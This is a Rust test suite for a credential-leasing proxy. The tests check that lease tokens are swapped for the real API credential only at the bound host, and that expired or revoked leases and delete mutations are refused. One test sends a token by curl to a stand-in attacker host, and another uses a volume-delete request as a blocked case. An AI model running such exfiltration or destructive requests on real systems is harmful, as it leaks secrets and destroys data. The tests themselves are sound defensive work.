//! Leases, custody, and where the real credential is never seen.

use std::time::Duration;

use super::bench::{Bench, REAL, URL, delete, issue};
use super::upstream::VOLUME;

const READ: &str = r#"{"query":"{ me { id } }"}"#;

#[tokio::test(flavor = "multi_thread")]
async fn the_lease_token_becomes_the_real_credential_at_its_host_only() {
    let bench = Bench::new().await;
    bench.take();
    let said = bench.post(bench.token(), "{ me { id } }").await;
    assert!(said.body.contains("done"), "{said:?}");
    let seen = bench.provider.asked();
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {REAL}").as_str())
    );
    assert!(!format!("{seen:?}").contains(bench.token()));
    assert!(!said.body.contains(REAL) && !bench.written().contains(REAL));
    // At another host, over plain HTTP, or in another header it stands for nothing.
    let auth = format!("Authorization: Bearer {}", bench.token());
    let key = format!("X-Api-Key: {}", bench.token());
    for args in [
        vec!["https://evil.example/", "-H", auth.as_str()],
        vec![
            "http://backboard.railway.app/graphql/v2",
            "-H",
            auth.as_str(),
        ],
        vec![URL, "-H", key.as_str(), "-d", READ],
        vec![URL, "-H", auth.as_str(), "-H", auth.as_str(), "-d", READ],
    ] {
        let said = bench.curl(&args).await;
        assert!(said.body.contains("ZL502"), "{args:?}: {said:?}");
    }
    assert_eq!(bench.provider.asked().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_credential_in_custody_is_judged_like_the_found_one() {
    let bench = Bench::new().await;
    bench.take();
    for bearer in [bench.token(), REAL] {
        let said = bench.post(bearer, &delete(VOLUME)).await;
        assert!(said.body.contains("ZH001"), "{said:?}");
    }
    assert!(bench.provider.asked().is_empty());
    let with = bench.provider.questions();
    let real = format!("Bearer {REAL}");
    assert!(
        with.iter()
            .all(|question| question.header("authorization") == Some(&real))
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_lease_token_as_bearer_is_enough_where_custody_has_its_credential() {
    let bench = Bench::new().await;
    let proxy = format!("http://{}", bench.door);
    let auth = format!("Authorization: Bearer {}", bench.token());
    let args = [
        URL,
        "-H",
        auth.as_str(),
        "-H",
        "Content-Type: application/json",
        "-d",
        READ,
    ];
    let said = bench.curl_by(&proxy, &args).await;
    assert!(said.stderr.contains("407"), "nothing in custody: {said:?}");
    bench.take();
    let said = bench.curl_by(&proxy, &args).await;
    assert!(said.body.contains("done"), "{said:?}");
    // Without any lease the tunnel opens for the bound host, and the request in it is refused.
    let said = bench.curl_by(&proxy, &[URL, "-d", READ]).await;
    assert_eq!(said.status, "407", "{said:?}");
    assert!(said.body.contains("ZL501"), "{said:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_lease_or_with_an_ended_one_nothing_passes() {
    let bench = Bench::new().await;
    let expired = issue(&bench.leases, Duration::ZERO);
    let revoked = issue(&bench.leases, Duration::from_secs(60));
    let by = holdfast_core::Principal::human("ann");
    bench.leases.revoke(&revoked.lease.id, by).unwrap();
    for user in [
        String::new(),
        "lease:wrong@".to_owned(),
        format!("lease:{}@", expired.token.expose()),
        format!("lease:{}@", revoked.token.expose()),
    ] {
        let proxy = format!("http://{user}{}", bench.door);
        let said = bench.curl_by(&proxy, &[URL, "-d", READ]).await;
        assert!(said.stderr.contains("407"), "{user}: {said:?}");
        let said = bench.curl_by(&proxy, &["http://api.example/"]).await;
        assert_eq!(said.status, "407", "{user}: {said:?}");
        assert!(said.body.contains("ZL501") && said.body.contains("nothing was forwarded"));
    }
    assert!(bench.provider.asked().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_lease_that_is_revoked_ends_in_an_open_tunnel_too() {
    let bench = Bench::new().await;
    let asking = [
        URL,
        "-d",
        READ,
        "-H",
        "Content-Type: application/json",
        "--next",
        "-sS",
    ];
    let said = bench.curl(&asking[..5]).await;
    assert!(said.body.contains("done"), "{said:?}");
    let by = holdfast_core::Principal::human("ann");
    bench.leases.revoke(&bench.lease.lease.id, by).unwrap();
    let said = bench.curl(&asking[..5]).await;
    assert!(said.stderr.contains("407"), "{said:?}");
    assert_eq!(bench.provider.asked().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_found_token_is_asked_about_by_reading_only() {
    use holdfast_guard::door::http::UpstreamOverride;
    use holdfast_guard::scan::{ask_reach, scan};
    use holdfast_judge::packs::Packs;

    let bench = Bench::new().await;
    let notes = bench.folder.path().join("notes.env");
    std::fs::write(&notes, format!("RAILWAY_API_TOKEN={REAL}\n")).unwrap();
    let packs = Packs::shipped();
    let found = scan(&[notes], &packs).unwrap().findings.remove(0);
    let upstream = |host: &str| UpstreamOverride {
        host: host.to_owned(),
        connect: bench.provider.address,
        ca_file: Some(bench.provider.ca_file.clone()),
    };
    let mut found = found;
    found.hosts = vec![super::bench::HOST.to_owned()];
    let reach = ask_reach(&found, &packs, &[upstream(super::bench::HOST)]).await;
    assert_eq!(reach.valid, Some(true), "{reach:?}");
    assert!(
        reach.names.contains(&"postgres-volume".to_owned()),
        "{reach:?}"
    );
    let seen = [bench.provider.asked(), bench.provider.questions()].concat();
    assert!(
        seen.iter().all(|seen| seen.body.contains("query {")),
        "{seen:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_leases_environment_alone_leads_curl_through_the_door() {
    use holdfast_guard::door::http::lease_env;

    let bench = Bench::new().await;
    let env = lease_env(bench.door, &bench.lease.token, &bench.ca_file);
    for document in ["{ me { id } }".to_owned(), delete(VOLUME)] {
        let body = serde_json::json!({ "query": document }).to_string();
        let auth = format!("Authorization: Bearer {REAL}");
        let ran = tokio::process::Command::new("curl")
            .env_clear()
            .envs(&env)
            .args([
                "-sS",
                URL,
                "-H",
                &auth,
                "-H",
                "Content-Type: application/json",
                "-d",
                &body,
            ])
            .output()
            .await
            .unwrap();
        let said = String::from_utf8_lossy(&ran.stdout).into_owned();
        let held = document.starts_with("mutation");
        assert_eq!(said.contains("ZH001"), held, "{said} {:?}", ran.stderr);
        assert_eq!(said.contains("done"), !held, "{said}");
    }
    assert_eq!(bench.provider.asked().len(), 1);
}
